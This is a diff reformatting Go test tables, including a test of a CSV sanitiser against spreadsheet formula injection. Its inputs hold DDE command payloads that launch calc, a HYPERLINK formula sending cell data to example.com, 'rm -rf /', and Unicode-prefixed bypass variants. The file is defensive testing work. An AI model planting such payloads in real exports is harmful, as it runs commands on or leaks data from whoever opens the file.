@@ -126,9 +126,18 @@ func TestAbsent(t *testing.T) {
 		row        int
 		name, want string
 	}{
-		{1, "actor.username", ""}, {1, "action.approved", ""}, {1, "security.redactions", ""}, {1, "egress.status", ""},
-		{1, "labels", ""}, {1, "log", ""}, {1, "result.exit_code", "0"}, {1, "result.restored", ""}, {1, "truncated", "false"},
-		{2, "event_type", "log_sealed"}, {2, "log", `{"epoch":0}`}, {2, "result.success", ""},
+		{1, "actor.username", ""},
+		{1, "action.approved", ""},
+		{1, "security.redactions", ""},
+		{1, "egress.status", ""},
+		{1, "labels", ""},
+		{1, "log", ""},
+		{1, "result.exit_code", "0"},
+		{1, "result.restored", ""},
+		{1, "truncated", "false"},
+		{2, "event_type", "log_sealed"},
+		{2, "log", `{"epoch":0}`},
+		{2, "result.success", ""},
 	} {
 		if got := at(test.row, test.name); got != test.want {
 			t.Errorf("row %d, %s = %q, want %q", test.row, test.name, got, test.want)
@@ -148,13 +157,39 @@ func TestSafe(t *testing.T) {
 		in      string
 		guarded bool
 	}{
-		{"", false}, {"ls -la", false}, {"a=b", false}, {"rm -rf /", false}, {"/bin/sh", false}, {"[1]", false}, {`"=1"`, false},
-		{"=1+1", true}, {"+1", true}, {"-1", true}, {"@SUM(A1)", true}, {"@alice", true},
-		{"=HYPERLINK(\"http://example.com/?\"&A1)", true}, {"=cmd|'/C calc'!A0", true}, {"-2+3+cmd|' /C calc'!A0", true},
-		{"\t=1", true}, {"\tls", true}, {"\r=1", true}, {"\n=1", true}, {" =1", true}, {"\u00a0=1", true}, {"\ufeff=1", true},
-		{"\u200b\u200b+1", true}, {"\x00=1", true}, {"\xff=1", true},
-		{"＝1", true}, {"＋1", true}, {"－1", true}, {"＠x", true}, {"−1", true},
-		{"'", true}, {"'=1", true}, {"'quoted'", true},
+		{"", false},
+		{"ls -la", false},
+		{"a=b", false},
+		{"rm -rf /", false},
+		{"/bin/sh", false},
+		{"[1]", false},
+		{`"=1"`, false},
+		{"=1+1", true},
+		{"+1", true},
+		{"-1", true},
+		{"@SUM(A1)", true},
+		{"@alice", true},
+		{"=HYPERLINK(\"http://example.com/?\"&A1)", true},
+		{"=cmd|'/C calc'!A0", true},
+		{"-2+3+cmd|' /C calc'!A0", true},
+		{"\t=1", true},
+		{"\tls", true},
+		{"\r=1", true},
+		{"\n=1", true},
+		{" =1", true},
+		{"\u00a0=1", true},
+		{"\ufeff=1", true},
+		{"\u200b\u200b+1", true},
+		{"\x00=1", true},
+		{"\xff=1", true},
+		{"＝1", true},
+		{"＋1", true},
+		{"－1", true},
+		{"＠x", true},
+		{"−1", true},
+		{"'", true},
+		{"'=1", true},
+		{"'quoted'", true},
 	} {
 		got, want := csv.Safe(test.in), test.in
 		if test.guarded {
